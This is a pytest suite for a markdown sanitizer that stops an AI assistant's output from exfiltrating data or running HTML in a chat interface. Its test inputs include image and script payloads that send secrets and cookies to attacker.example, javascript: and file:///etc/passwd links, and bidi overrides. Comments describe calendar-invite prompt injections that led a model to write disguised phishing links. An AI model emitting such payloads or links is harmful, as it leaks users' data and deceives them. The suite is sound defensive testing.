"""Model output cannot load remote images or run HTML once it goes through safe_markdown."""

from __future__ import annotations

import html
import re
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from assistant.markdown_text import literal
from assistant.views.markdown import _code_parts, plain_text, safe_markdown, screen_markdown, without_unfinished_line


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://attacker.example/p.png?q=SECRET)",
        '![x](https://attacker.example/p.png?q=SECRET "title")',
        "![x](<https://attacker.example/p.png?q=SECRET>)",
        "![x][ref]\n\n[ref]: https://attacker.example/p.png?q=SECRET",
        "![ref]\n\n[ref]: https://attacker.example/p.png?q=SECRET",
    ],
)
def test_markdown_images_never_survive(attack: str) -> None:
    out = safe_markdown("Here is your agenda. " + attack)
    assert "![" not in out.replace("!\\[", "")
    assert "image blocked" in out or "!\\[" in out


@pytest.mark.parametrize(
    "attack",
    [
        '<img src="https://attacker.example/p.png?q=SECRET">',
        "<script>fetch('https://attacker.example/?q='+document.cookie)</script>",
        '<a href="javascript:alert(1)">click</a>',
        "<iframe src=https://attacker.example></iframe>",
    ],
)
def test_html_is_escaped_never_interpreted(attack: str) -> None:
    out = safe_markdown("Notes: " + attack + " end")
    assert "<" not in out and ">" not in out and "&lt;" in out
    assert html.unescape(out) == "Notes: " + attack + " end", "the text stays readable"


def test_ordinary_markdown_is_untouched() -> None:
    text = "### Agenda\n\n1. **10:00-10:05** Opening\n- [Doc](https://intranet.example/doc)\n\n`code`"
    assert safe_markdown(text) == text


ALLOWED_SCHEMES = ("http://", "https://", "mailto:")


def active_targets(markdown: str) -> list[str]:
    """Destinations a CommonMark renderer could make into links or link definitions.

    A link (inline, or by reference) needs an unescaped ``]`` directly followed by ``(``, or
    a definition ``[label]: destination``; an autolink needs an unescaped ``<``. Returns
    each such destination (raw, as the renderer would read it) and ``"<"`` for any unescaped
    angle bracket.
    """
    found: list[str] = []
    for match in re.finditer(r"(\\*)([\](<])", markdown):
        if len(match.group(1)) % 2:
            continue  # escaped: a literal character
        if match.group(2) == "<":
            found.append("<")
            continue
        after = markdown[match.end() :]
        if not after or after[0] not in "(:":
            continue
        rest = after[1:].lstrip().lstrip("<")
        found.append(rest.split()[0] if rest.split() else "")
    return found


def assert_only_safe_links(markdown: str) -> None:
    bad = [t for t in active_targets(markdown) if not t.lower().startswith(ALLOWED_SCHEMES)]
    assert not bad, f"active link targets {bad} in {markdown!r}"


@pytest.mark.parametrize(
    "attack",
    [
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[click](javascript:alert(document.cookie))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1) )",
        "[click](\njavascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        '[click](javascript:alert(1) "title")',
        "[click](java&#115;cript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](file:///etc/passwd)",
        "[click](//evil.example/x)",
        "[[ok](https://ok.example)](javascript:alert(1))",
        "[click][r]\n\n[r]: javascript:alert(1)",
        "[click][r]\n\n[r]:\n  data:text/html,<b>hi</b>",
        "[r]\n\n   [r]: <javascript:alert(1)>",
        "> [click][r]\n>\n> [r]: javascript:alert(1)",
        "- [click](javascript:alert(1))",
        "<javascript:alert(1)>",
        "<data:text/html,hi>",
    ],
)
def test_links_to_anything_but_http_https_mailto_become_plain_text(attack: str) -> None:
    out = safe_markdown("See " + attack + " now")
    assert_only_safe_links(out)
    assert "click" in out or "javascript" in out or "data:" in out or "[r]" in out.replace("\\", ""), "text stays"


def test_an_already_escaped_bracket_is_not_turned_into_a_link() -> None:
    text = "literal [a\\](javascript:alert(1)) and [b\\\\\\](data:x)"
    out = safe_markdown(text)
    assert_only_safe_links(out)


@pytest.mark.parametrize(
    "text",
    [
        "- [Doc](https://intranet.example/doc)",
        "[Site](http://example.com/a_(b))",
        "[Mail me](mailto:exec@example.com)",
        '[Doc](https://intranet.example/doc "Title")',
        "[Doc][d]\n\n[d]: https://intranet.example/doc",
        "[Doc](HTTPS://INTRANET.EXAMPLE/)",
    ],
)
def test_http_https_and_mailto_links_stay_links(text: str) -> None:
    assert safe_markdown(text) == text


def test_a_bidi_override_from_the_model_cannot_reverse_the_rest_of_the_line() -> None:
    shown = safe_markdown("0 meetings matching '\u202eevil' in the next 7 days")
    assert shown == "0 meetings matching 'evil' in the next 7 days"


@pytest.mark.parametrize(
    ("cut", "drawn"),
    [
        ("2. **Customer priorities** (25 min)\n   -", "2. **Customer priorities** (25 min)"),
        ("Agenda\n==", "Agenda"),
        ("- one\n- two\n- ", "- one\n- two"),
        ("1. one\n2.", "1. one"),
        ("Intro\n\n#", "Intro\n"),
        ("Intro\n   *  ", "Intro"),
    ],
)
def test_a_line_that_only_began_is_not_drawn(cut: str, drawn: str) -> None:
    assert without_unfinished_line(cut) == drawn


@pytest.mark.parametrize(
    ("cut", "drawn"),
    [
        ("5 meetings:\n- **Weekl", "5 meetings:\n- **Weekl**"),  # read "**Weekl", asterisks and all
        ("- **Acme QBR** with **Dana ", "- **Acme QBR** with **Dana**"),
        ("Run `git st", "Run `git st`"),
        ("Steps:\n```bash\nmake run", "Steps:\n```bash\nmake run\n```"),  # the rest was drawn as text
        ("x `a**b` and **c", "x `a**b` and **c**"),
    ],
)
def test_marks_a_cut_answer_left_open_are_closed(cut: str, drawn: str) -> None:
    assert without_unfinished_line(cut) == drawn


@pytest.mark.parametrize(
    "text",
    ["Plain sentence", "- one\n- two", "Costs rose 5%\n- see -", "Total\n= 5", "Step\n2. second", "a\n--b"],
)
def test_a_line_with_words_is_kept(text: str) -> None:
    assert without_unfinished_line(text) == text


# Streamlit's own Markdown: ":red[x]" is drawn red without ":red", ":small[x]" small,
# ":material/home:" as an icon, ":smile:" as an emoji; "Status:red" loses ":red".
DIRECTIVES = [
    ":red[x]",
    "Plan :blue-background[notes] today",
    ":small[fine print]",
    "icon :material/home: here",
    "Status:red",
    ":foo[label] and ::green[leaf] and :::violet[block]",
    ":color[x]{foreground=red}",
    ":rainbow-badge[new]",
]


def _as_read(markdown: str) -> str:
    """What a reader sees of escaped text: escapes undone, zero-width spaces gone."""
    return html.unescape(re.sub(r"\\(.)", r"\1", markdown)).replace("\u200b", "")


def _directive_starts(markdown: str) -> list[str]:
    """Unescaped colons a Streamlit directive or icon could start at."""
    return [
        m.group(0)
        for m in re.finditer(r"(?<!\\)(?:\\\\)*:(?=[A-Za-z])", markdown)
        if not markdown[m.end() :].startswith("\u200b")
    ]


@pytest.mark.parametrize("text", [*DIRECTIVES, ":smile: and :material_home:", "see http://x.y at 10:00"])
def test_plain_text_shows_streamlit_directives_and_shortcodes_as_typed(text: str) -> None:
    out = plain_text(text)
    assert _as_read(out) == text
    assert not _directive_starts(out), out
    assert ":material/" not in out and ":material_" not in out
    assert not re.search(r":[\w+-]+:", out.replace("\\", "")), "no shortcode survives unbroken"


@pytest.mark.parametrize("text", DIRECTIVES)
def test_safe_markdown_shows_streamlit_directives_typed_by_a_user_as_typed(text: str) -> None:
    out = safe_markdown(text)
    assert not _directive_starts(out), out
    assert ":material/" not in out
    assert _as_read(out) == text


def test_safe_markdown_keeps_times_links_and_mailto_as_they_were() -> None:
    text = "**10:00-10:05** [Doc](https://intranet.example/doc) <mailto:a@b.c> [mail](mailto:ada@x.org)"
    assert safe_markdown(text) == text.replace("<", "&lt;").replace(">", "&gt;")


def shown(markdown: str) -> str:
    """The text a CommonMark renderer shows for ``markdown``'s escapes and entities, left to right:
    a backslash before punctuation shows that character (so ``\\&lt;`` shows "&lt;"), an entity its character."""
    return re.sub(
        r"\\([!-/:-@\[-`{-~])|(&(?:[A-Za-z]+|#\d+);)",
        lambda m: m.group(1) if m.group(1) is not None else html.unescape(m.group(2)),
        markdown,
    )


@pytest.mark.parametrize("title", ["Q3 <Acme> sync", "Real <b>meeting</b> **bold**", "a \\<b> c", "<script>x</script>"])
def test_calendar_text_escaped_for_markdown_reads_as_typed_after_safe_markdown(title: str) -> None:
    """The offline model escapes a title's "<" as "\\<"; safe_markdown then escaped the tag it saw
    again, so "Q3 <Acme> sync" read "Q3 &lt;Acme&gt; sync" in the answer."""
    out = safe_markdown(literal(title))
    assert shown(out) == title
    assert not re.search(r"(?<!\\)(?:\\\\)*<[A-Za-z/!]", out), "no tag a renderer could read"


SAMPLE = "Try:\n```html\n<div>a</div>\n```\nor `<br>` here, not <b>this</b>.\n~~~\n<p>\n~~~\n"


def test_on_screen_html_in_code_reads_as_typed_and_prose_stays_escaped() -> None:
    """st.markdown shows code as it is, entities included: escaped there, ``<div>`` read ``&lt;div&gt;``."""
    out = screen_markdown(SAMPLE)
    assert "```html\n<div>a</div>\n```" in out and "`<br>`" in out and "~~~\n<p>\n~~~" in out
    assert "&lt;b&gt;this&lt;/b&gt;" in out


def test_exports_escape_html_in_code_too() -> None:
    """A Markdown export may be opened by a viewer that renders raw HTML: nothing is left as a tag."""
    out = safe_markdown(SAMPLE)
    assert "<" not in out.replace("&lt;", "")


def test_an_unclosed_fence_is_code_to_the_end_as_while_an_answer_streams() -> None:
    assert screen_markdown("Here:\n```xml\n<a>\n<b>") == "Here:\n```xml\n<a>\n<b>"


def test_a_code_span_does_not_reach_across_a_blank_line() -> None:
    assert screen_markdown("`a\n\nb <i>x</i>`") == "`a\n\nb &lt;i&gt;x&lt;/i&gt;`"


def test_images_in_code_stay_blocked_on_screen() -> None:
    assert "image blocked" in screen_markdown("```\n![x](https://attacker.example/p.png)\n```")


@given(st.text(alphabet="`~<>ab \n\\", max_size=60))
@example("<a\n\n>`")  # found by Hypothesis: a "tag" across a blank line, escaped by one path only
def test_code_parts_cover_the_text_and_screen_differs_only_inside_code(text: str) -> None:
    parts = _code_parts(text)
    assert "".join(part for part, _ in parts) == text
    if not any(code for _, code in parts):
        assert screen_markdown(text) == safe_markdown(text)


def test_dollar_signs_are_money_not_latex() -> None:
    # Streamlit reads "$...$" as KaTeX: "I paid $1,200 for travel and $3,400" lost both dollar
    # signs and read "1,200fortraveland" in italics, and a message (or an answer a calendar
    # invite talked a model into) holding $\rule{3000px}{3000px}$ drew a 3000-pixel black box
    # over the conversation, in the admin's view of that session too.
    for render in (safe_markdown, screen_markdown):
        assert render("I paid $1,200 and $3,400") == "I paid \\$1,200 and \\$3,400"
        assert render("$\\rule{3000px}{3000px}$ $$x$$") == "\\$\\rule{3000px}{3000px}\\$ \\$\\$x\\$\\$"
        assert render("already \\$5") == "already \\$5"  # escaped once, not twice
        assert render("a \\\\$5") == "a \\\\\\$5"  # an escaped backslash, then the sign
    assert screen_markdown("costs `$PATH` and\n```\necho $HOME\n```\n") == "costs `$PATH` and\n```\necho $HOME\n```\n"


def test_quotes_and_lists_nest_a_few_levels_at_most() -> None:
    # A message of 8,000 ">" (or "+ " or "1. " repeated: lists in lists) is a quote nested 8,000
    # deep: the browser's Markdown renderer ran out of stack and the message showed as
    # "RangeError: Maximum call stack size exceeded" with a stack trace, in the chat and in an
    # admin's view of that session. Past eight levels the next marker is escaped (shown as typed).
    for render in (safe_markdown, screen_markdown):
        assert render(">" * 8000).startswith(">" * 8 + "\\>")
        assert render("> " * 4000).startswith("> " * 8 + "\\>")
        assert render("+ " * 4000 + "x").startswith("+ " * 8 + "\\+")
        assert render("1. " * 2000 + "x").startswith("1. " * 8 + "1\\.")
        assert render("- > " * 2000 + "x").startswith("- > " * 4 + "\\-")
        assert render("x\n" + ">" * 9 + " y").startswith("x\n" + ">" * 8 + "\\>")
        ordinary = "> quote\n>> reply\n\n- a\n  - b\n    1. c\n\n5 > 3, and >>> in text"
        assert render(ordinary) == ordinary
    fenced = "```\n" + ">" * 20 + "\n```\n"
    assert screen_markdown(fenced) == fenced
    assert safe_markdown(">" * 9 + "y") == ">" * 8 + "\\>y"
    assert safe_markdown("* * * * * * * * * * * *") == "* * * * * * * * * * * *"  # a rule, not lists


def test_a_link_whose_text_names_another_address_is_not_a_link() -> None:
    # An answer (a calendar invite can talk a model into it) wrote
    # "[https://acme.okta.com/login](https://acme-okta.evil.example/)": the chat showed a link
    # reading acme.okta.com that opened the attacker's page. Its text and target now both show.
    for render in (safe_markdown, screen_markdown):
        for disguised in (
            "[https://acme.okta.com/login](https://acme-okta.evil.example/)",
            "[www.acme.com](http://evil.example)",
            "[acme.com/pay](https://evil.example/acme.com)",
        ):
            shown = render(f"Sign in: {disguised} now")
            assert "\\](" in shown, shown
        for honest in (
            "[https://acme.com/q3](https://acme.com/q3)",
            "[acme.com](https://www.acme.com/deck)",
            "[the Q3 deck](https://evil.example/deck)",  # words, not an address: the user sees where on hover
            "[v1.2 notes](https://acme.com/notes)",
        ):
            assert render(honest) == honest, honest
    assert screen_markdown("`[a.com](https://b.com)`") == "`[a.com](https://b.com)`"  # code as typed
    for typed in ("[a.com\\](https://evil.example/)", "[https\\://a.com/y\\](https://evil.example/)"):
        assert screen_markdown(typed) == typed  # an escaped bracket stays escaped: never made a link


@pytest.mark.parametrize(
    "text",
    ["![" * 16_000, "![a](" * 6_400, "\\" * 32_000 + "](", "<a" * 16_000, "![a][" * 6_400],
    ids=["images", "image-addresses", "escapes", "tags", "refs"],
)
def test_a_long_text_of_unclosed_marks_is_made_safe_at_once(text: str) -> None:
    # An answer (or a pasted message) of 32,000 characters of "![a](", "![" or "\\" took 23 s, 7.6 s, 3.5 s to
    # make safe, on every redraw of the page (and on each 50 ms step of an answer streaming): each
    # unclosed "![", "<" or run of backslashes searched to the end of the text again.
    started = time.thread_time()  # this thread's CPU: neither a busy machine nor the worker's other threads count
    for draw in (screen_markdown, safe_markdown):
        assert "![" not in draw(text).replace("!\\[", "")  # never an image, however long
    assert time.thread_time() - started < 1.0


@pytest.mark.parametrize(
    ("cut", "drawn"),
    [("Agenda:\n- **", "Agenda:"), ("with **Dana** and **", "with **Dana** and"), ("Note: **", "Note:")],
)
def test_bold_opened_with_nothing_in_it_yet_is_left_out(cut: str, drawn: str) -> None:
    assert without_unfinished_line(cut) == drawn


def test_an_answer_still_streaming_keeps_its_code_block_open() -> None:
    # its cursor follows the text: a closing fence with a cursor after it closes nothing
    assert without_unfinished_line("```python\nx = 1", close_fence=False) == "```python\nx = 1"
    assert without_unfinished_line("Run `make ru", close_fence=False) == "Run `make ru`"


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        ("- **المالية** - $1M", "- **\u2068المالية\u2069** - \\$1M"),
        ("المالية: 50.0% used", "\u2068المالية\u2069: 50.0% used"),
        ("שלום 123 עולם", "\u2068שלום 123 עולם\u2069"),  # one run: its numbers between its words
        ("| א | 5 | ב |", "| \u2068א\u2069 | 5 | \u2068ב\u2069 |"),  # a table's cells apart
        ("x `المالية 5` y", "x `المالية 5` y"),  # code is copied as typed
        ("plain text", "plain text"),
    ],
)
def test_right_to_left_runs_are_isolated(text: str, drawn: str) -> None:
    assert safe_markdown(text) == drawn


def test_only_isolates_made_here_are_in_the_text() -> None:
    # a hostile override or isolate is removed first; the name is then isolated on its own
    shown = safe_markdown("\u202e\u2067المالية\u2069 costs \u2066$5\u2069")
    assert shown == "\u2068المالية\u2069 costs \\$5"


def test_a_users_double_dash_and_entity_read_as_typed_in_titles_and_questions() -> None:
    """Streamlit draws " -- " as an em dash and an entity as its character: a question
    `%_'"; DROP TABLE sessions; --` was titled and shown "…; —", and "<b>html</b> &amp;" read
    "… &". A title and the user's own message read as typed; code and answers are left alone."""
    from assistant.views.markdown import question_markdown

    assert plain_text("sessions; --") == "sessions; -\u2060-"
    assert plain_text("run it -- now") == "run it -\u2060- now"
    assert plain_text("R&D &amp; more") == "R\\&D \\&amp; more"
    assert question_markdown("sessions; -- and &amp;") == "sessions; -\u2060- and \\&amp;"
    assert question_markdown("`git checkout -- x &amp;` then --force") == "`git checkout -- x &amp;` then --force"
    assert screen_markdown("Q3 -- on plan") == "Q3 -- on plan"  # an answer's dash is the model's own
